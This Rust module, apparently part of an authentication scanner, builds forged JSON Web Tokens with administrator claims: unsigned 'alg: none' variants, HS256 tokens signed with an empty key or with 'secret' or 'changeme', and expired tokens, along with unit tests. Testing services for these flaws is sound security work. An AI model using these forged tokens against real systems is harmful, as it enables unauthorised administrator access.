//! Forged JSON Web Tokens: unsigned (`alg: none`), HS256 signed with empty or guessable
//! keys, and expired. None is derived from the legitimate credential.

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde_json::{Value, json};

use hmac::{Hmac, Mac};
use sha2::Sha256;

/// HMAC-SHA256 of `data` under `key` (any key length is valid for HMAC).
fn hmac_sha256(key: &[u8], data: &[u8]) -> Vec<u8> {
    let mut mac = Hmac::<Sha256>::new_from_slice(key).expect("HMAC accepts any key length");
    mac.update(data);
    mac.finalize().into_bytes().to_vec()
}

/// Keys a careless deployment signs with.
pub(super) const GUESSABLE_KEYS: &[&str] = &["", "secret", "changeme"];

/// One forged token and what it tries.
pub(super) struct Forged {
    pub name: String,
    pub token: String,
}

fn b64(v: &Value) -> String {
    URL_SAFE_NO_PAD.encode(v.to_string())
}

/// Claims of an administrator, valid for an hour from `now` (or expired an hour ago).
fn admin_claims(now: i64, expired: bool) -> Value {
    let (iat, exp) = if expired {
        (now - 7200, now - 3600)
    } else {
        (now, now + 3600)
    };
    json!({
        "sub": "admin",
        "name": "admin",
        "role": "admin",
        "roles": ["admin"],
        "admin": true,
        "scope": "admin",
        "iat": iat,
        "exp": exp,
    })
}

/// `header.claims.` with no signature, for the given `alg` spelling.
fn unsigned(alg: &str, claims: &Value, trailing_dot: bool) -> String {
    let head = b64(&json!({"alg": alg, "typ": "JWT"}));
    let body = b64(claims);
    if trailing_dot {
        format!("{head}.{body}.")
    } else {
        format!("{head}.{body}")
    }
}

/// An HS256 token signed with `key`.
pub(super) fn hs256(key: &str, claims: &Value) -> String {
    let input = format!(
        "{}.{}",
        b64(&json!({"alg": "HS256", "typ": "JWT"})),
        b64(claims)
    );
    let sig = URL_SAFE_NO_PAD.encode(hmac_sha256(key.as_bytes(), input.as_bytes()));
    format!("{input}.{sig}")
}

/// Every forged token, with `now` as the Unix time.
pub(super) fn forged(now: i64) -> Vec<Forged> {
    let claims = admin_claims(now, false);
    let expired = admin_claims(now, true);
    let mut out = vec![
        Forged {
            name: "JWT alg:none (unsigned, trailing dot)".into(),
            token: unsigned("none", &claims, true),
        },
        Forged {
            name: "JWT alg:none (unsigned, no trailing dot)".into(),
            token: unsigned("none", &claims, false),
        },
        Forged {
            name: "JWT alg:None (unsigned)".into(),
            token: unsigned("None", &claims, true),
        },
    ];
    for key in GUESSABLE_KEYS {
        let shown = if key.is_empty() {
            "an empty key".to_string()
        } else {
            format!("the key {key:?}")
        };
        out.push(Forged {
            name: format!("JWT HS256 signed with {shown}"),
            token: hs256(key, &claims),
        });
    }
    out.push(Forged {
        name: "expired JWT HS256 signed with the key \"secret\"".into(),
        token: hs256("secret", &expired),
    });
    out.push(Forged {
        name: "expired JWT alg:none".into(),
        token: unsigned("none", &expired, true),
    });
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hs256_matches_the_reference_token() {
        // The example token of RFC 7519's reference page (jwt.io), key "your-256-bit-secret".
        let claims: Value =
            serde_json::from_str(r#"{"sub":"1234567890","name":"John Doe","iat":1516239022}"#)
                .unwrap();
        let input = format!(
            "{}.{}",
            "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9",
            URL_SAFE_NO_PAD.encode(r#"{"sub":"1234567890","name":"John Doe","iat":1516239022}"#)
        );
        let sig = URL_SAFE_NO_PAD.encode(hmac_sha256(b"your-256-bit-secret", input.as_bytes()));
        assert_eq!(sig, "SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c");
        // Our header encodes exactly like the reference one.
        let token = hs256("your-256-bit-secret", &claims);
        assert!(token.starts_with("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9."));
        assert_eq!(token.split('.').count(), 3);
    }

    #[test]
    fn alg_none_tokens_decode_to_an_unsigned_admin_token() {
        let all = forged(1_700_000_000);
        assert!(all.len() >= 8);
        let none = &all[0].token;
        assert!(none.ends_with('.'));
        let mut parts = none.split('.');
        let header: Value =
            serde_json::from_slice(&URL_SAFE_NO_PAD.decode(parts.next().unwrap()).unwrap())
                .unwrap();
        assert_eq!(header, json!({"alg": "none", "typ": "JWT"}));
        let claims: Value =
            serde_json::from_slice(&URL_SAFE_NO_PAD.decode(parts.next().unwrap()).unwrap())
                .unwrap();
        assert_eq!(claims["sub"], "admin");
        assert_eq!(claims["exp"], 1_700_003_600);
        assert_eq!(parts.next(), Some(""));
        assert!(!all[1].token.ends_with('.'));
        let expired = all
            .iter()
            .find(|f| f.name.starts_with("expired JWT HS256"))
            .unwrap();
        let claims: Value = serde_json::from_slice(
            &URL_SAFE_NO_PAD
                .decode(expired.token.split('.').nth(1).unwrap())
                .unwrap(),
        )
        .unwrap();
        assert!(claims["exp"].as_i64().unwrap() < 1_700_000_000);
    }
}
